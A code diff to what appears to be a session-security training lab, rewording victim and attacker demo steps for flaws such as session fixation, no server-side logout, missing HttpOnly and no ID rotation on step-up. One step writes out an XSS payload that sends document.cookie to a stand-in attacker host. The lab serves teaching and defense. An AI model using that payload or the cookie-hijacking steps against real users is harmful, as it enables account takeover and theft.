@@ -16,7 +16,10 @@ export const PLANTED_ID = "MalloryPlantedThisSessionId_0123456789abcde";
 
 const COPY_COOKIE =
   "Victim: sign in as alice@vaultline.test, then copy the vaultline.session cookie (DevTools → Application → Cookies): the copy a thief got from a proxy log, a backup or malware.";
-const USE_COPY =
+const USE_COPY = "Attacker: open {attacker}/view, paste the copy and choose Open the bank with it: Alice's accounts.";
+const USE_COPY_AGAIN = "Attacker: on {attacker}/view, open the bank with the copy again.";
+// Acting as the victim (a transfer) needs the copy in the attacker's own browser.
+const COPY_INTO_BROWSER =
   "Attacker: in DevTools → Application → Cookies for {bank}, set vaultline.session to the copy and open {bank}/dashboard: Alice's accounts.";
 
 /** What a leaked copy of the lab's sessions table says about Alice's live sessions (run in the project folder). */
@@ -32,7 +35,7 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Flaw on: the attacker is in Alice's accounts with the ID she chose. Defense: sign-in issued a new ID; the planted one opens nothing.",
   },
   "no-server-logout": {
-    steps: [COPY_COOKIE, USE_COPY, "Victim: Sign out.", "Attacker: reload the dashboard."],
+    steps: [COPY_COOKIE, USE_COPY, "Victim: Sign out.", USE_COPY_AGAIN],
     expected:
       "Flaw on: the copy still opens Alice's accounts after she signed out. Defense: the session ended on the server; the copy lands on the sign-in page.",
   },
@@ -41,7 +44,7 @@ export const DEMOS: Record<FlawName, Demo> = {
       "Victim: sign in as alice@vaultline.test (after switching: HttpOnly is decided when the cookie is issued).",
       "Victim: in the DevTools console run document.cookie, which is what any injected script runs.",
       'Victim: send it to the attacker as an XSS payload would (switch no-csp on too, or the CSP blocks the request): new Image().src = "{attacker}/steal?c=" + encodeURIComponent(document.cookie)',
-      "Attacker: the inbox below shows the cookie; set it in the private window and open {bank}/dashboard.",
+      "Attacker: the inbox below shows the cookie; open {attacker}/view and choose Open the bank with it: Alice's accounts.",
     ],
     expected:
       "Flaw on: document.cookie shows vaultline.session, it arrives in the inbox, and the attacker is Alice. Defense: the session cookie is invisible to script; nothing to steal.",
@@ -66,7 +69,7 @@ export const DEMOS: Record<FlawName, Demo> = {
   "no-rotation-on-step-up": {
     steps: [
       COPY_COOKIE,
-      USE_COPY,
+      COPY_INTO_BROWSER,
       "Trainer: press “Sign-ins past step-up freshness” below: a transfer now needs the password again.",
       "Attacker: start a transfer: it asks for a password she does not know.",
       "Victim: send a transfer and confirm it with the password (alice-demo-pass-1).",
@@ -80,7 +83,7 @@ export const DEMOS: Record<FlawName, Demo> = {
       COPY_COOKIE,
       USE_COPY,
       "Trainer: press “Sign-ins past step-up freshness”; Victim: send a transfer and confirm it with the password (the session moves to a new ID).",
-      "Attacker: reload the dashboard with the old ID.",
+      USE_COPY_AGAIN,
     ],
     expected:
       "Flaw on: the rotated-out ID still opens the accounts and nobody is told. Defense: the reuse ends the whole session family (the victim is signed out too) and a security event says why.",
@@ -108,7 +111,7 @@ export const DEMOS: Record<FlawName, Demo> = {
       COPY_COOKIE,
       USE_COPY,
       "Victim: Security → Change password (current alice-demo-pass-1; Reset restores it).",
-      "Attacker: reload the dashboard.",
+      USE_COPY_AGAIN,
     ],
     expected:
       "Flaw on: the attacker's copy keeps working after the victim changed the password. Defense: every other session ended at once; the copy lands on the sign-in page.",
